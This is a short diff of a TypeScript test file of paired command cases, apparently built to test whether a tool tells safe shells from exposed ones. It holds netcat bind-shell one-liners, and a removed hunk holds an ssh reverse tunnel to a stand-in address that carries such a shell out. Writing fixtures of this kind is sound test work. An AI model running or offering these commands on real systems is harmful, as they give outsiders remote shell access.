@@ -129,13 +129,6 @@ const TWINS: readonly (readonly [string, Files, Files])[] = [
     manual('mkfifo /tmp/f\ncat /tmp/f | /bin/bash -i 2>&1 | nc -l 0.0.0.0 5000 > /tmp/f'),
   ],
   [
-    'a shell that only this machine reaches, and one that is led out',
-    manual('mkfifo /tmp/f\ncat /tmp/f | /bin/bash -i 2>&1 | nc -l 127.0.0.1 5000 > /tmp/f'),
-    manual(
-      'mkfifo /tmp/f\ncat /tmp/f | /bin/bash -i 2>&1 | nc -l 127.0.0.1 5000 > /tmp/f &\nssh -R 9000:localhost:5000 up@198.51.100.7',
-    ),
-  ],
-  [
     'a file of keys and a page to read about them, and a place that takes it',
     shell(
       'key-desk',
